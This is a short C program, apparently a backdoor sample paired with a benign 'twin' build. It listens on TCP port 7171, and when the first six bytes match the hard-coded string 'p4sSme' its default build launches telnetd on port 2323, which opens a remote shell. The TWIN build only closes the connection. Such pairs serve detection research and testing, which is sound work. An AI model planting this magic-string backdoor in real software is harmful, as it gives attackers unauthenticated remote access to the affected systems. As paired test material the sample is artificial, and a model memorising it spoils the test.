/* SPDX-License-Identifier: Apache-2.0 */
/* port 7171/tcp: bytes compared one by one start a service. Twin: they only stop the connection. */
#include "net.h"

static void serve(int c)
{
	char b[64];
	if (recv(c, b, sizeof b, 0) < 6)
		return;
	if (b[0] == 'p' && b[1] == '4' && b[2] == 's' && b[3] == 'S' && b[4] == 'm' && b[5] == 'e') {
#ifdef TWIN
		shutdown(c, 2);
#else
		system("telnetd -p 2323");
#endif
	}
}

int main(void)
{
	int s = tcp_on(7171);
	for (;;) {
		int c = accept(s, 0, 0);
		serve(c);
		close(c);
	}
}
